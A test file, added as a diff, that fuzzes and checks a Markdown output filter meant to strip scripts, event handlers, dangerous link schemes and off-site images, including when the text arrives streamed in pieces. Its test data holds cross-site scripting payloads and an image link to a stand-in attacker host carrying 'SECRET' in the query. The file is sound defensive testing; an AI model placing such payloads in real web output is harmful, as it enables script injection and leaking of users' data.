@@ -1,0 +1,90 @@
+"""The output filter: no script, event handler, dangerous scheme or off-site image survives,
+whole or streamed in pieces; judged by rendering the output with a real Markdown renderer that
+lets raw HTML through."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from core.safety import LinkPolicy, SafeMarkdown, plain_text
+from tests.safety_oracle import assert_safe as assert_safe_for
+
+POLICY = LinkPolicy("http://book.example/", frozenset({"docs.ros.org"}))
+PIECES = [
+    "<script>", "</script>", "<scr", "ipt>", "alert(1)", "<img src=x onerror=alert(1)>",
+    "<a href='javascript:alert(1)'>", "javascript:", "JaVaScRiPt:", "java\tscript:", "data:",
+    "vbscript:", "&#106;", "&#x6a;", "&lt;", "[", "]", "(", ")", "![", "](", "`", "```", "~~~",
+    "\n", "\n\n", " ", "<", ">", "\\", '"', "'", "x", "onerror=", "[id]: ", "*", "<!--", "-->",
+    "https://evil.example/p.gif?q=SECRET", "http://book.example/docs/a#b", "/img/a.png",
+    "www.evil.example", "https://docs.ros.org/x", "<https://evil.example>", "<svg/onload=x>",
+    "- ", "  ", "    ", "> ", "|", "\\|", "\n|---|---|\n", "| a | b |", "1. ", "# ", "\t",
+]  # fmt: skip
+markdownish = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=40).map("".join)
+
+
+def assert_safe(markdown: str) -> None:
+    assert_safe_for(markdown, POLICY)
+
+
+def streamed(text: str, cuts: list[int]) -> str:
+    safe = SafeMarkdown(POLICY)
+    out, start = [], 0
+    for cut in sorted({c % (len(text) + 1) for c in cuts}):
+        out.append(safe.feed(text[start:cut]))
+        start = cut
+    out.append(safe.feed(text[start:]))
+    return "".join(out) + safe.flush()
+
+
+@settings(max_examples=3000, deadline=None)
+@given(markdownish)
+def test_no_generated_input_renders_script_handlers_bad_schemes_or_offsite_images(text):
+    assert_safe(SafeMarkdown(POLICY).filter(text))
+
+
+@settings(max_examples=3000, deadline=None)
+@given(markdownish, st.lists(st.integers(min_value=0, max_value=400), max_size=12))
+def test_streaming_in_any_pieces_gives_the_same_safe_text(text, cuts):
+    assert streamed(text, cuts) == SafeMarkdown(POLICY).filter(text)
+
+
+@pytest.mark.parametrize(
+    ("given_text", "expected"),
+    [
+        ("a <b>bold</b> c", "a &lt;b>bold&lt;/b> c"),
+        (
+            "<scr<script>ipt>alert(1)</scr</script>ipt>",
+            "&lt;scr&lt;script>ipt>alert(1)&lt;/scr&lt;/script>ipt>",
+        ),
+        ("![x](https://evil.example/pixel.gif?q=SECRET)", "x"),
+        ("![fig](/img/robot.png)", "![fig](/img/robot.png)"),
+        ("![fig](http://book.example/img/robot.png)", "![fig](http://book.example/img/robot.png)"),
+        ("[go](javascript:alert(1))", "go"),
+        ("[go](&#106;avascript:alert(1))", "go"),
+        ("[go](data:text/html,<b>x</b>)", "go"),
+        ("[page](./other-page.md#part)", "[page](./other-page.md#part)"),
+        ("[ros](https://docs.ros.org/en/)", "[ros](https://docs.ros.org/en/)"),
+        ("[elsewhere](https://evil.example/)", "elsewhere"),
+        ("[id]: javascript:alert(1)", "\\[id]: javascript:alert(1)"),
+        ("see https://evil.example/x.", "see https:\u200b//evil.example/x."),
+        ("`<b>` stays code", "`<b>` stays code"),
+        ("```html\n<script>x</script>\n```\n<i>", "```html\n<script>x</script>\n```\n&lt;i>"),
+        ("QoS [1] and DDS [2].", "QoS [1] and DDS [2]."),
+        ("- item\n  ```\n<script>\n  ```", "- item\n```\n<script>\n```"),
+        ("| `a | <b>` |", "| `a | &lt;b>` |"),
+        ("`a\n<b>`", "`a\n&lt;b>`"),
+    ],
+)  # fmt: skip
+def test_known_attacks_and_legitimate_markdown(given_text, expected):
+    assert SafeMarkdown(POLICY).filter(given_text) == expected
+
+
+def test_a_link_is_held_until_it_is_whole_then_judged():
+    safe = SafeMarkdown(POLICY)
+    assert safe.feed("Read [this](java") == "Read "
+    assert safe.feed("script:alert(1)) now") == "this now"
+
+
+def test_plain_text_removes_nested_markup_from_titles():
+    assert plain_text("Foo <img src=x onerror=alert(1)>") == "Foo"
+    assert plain_text("<scr<script>ipt>alert(1)</scr</script>ipt> Title") == "alert(1) Title"
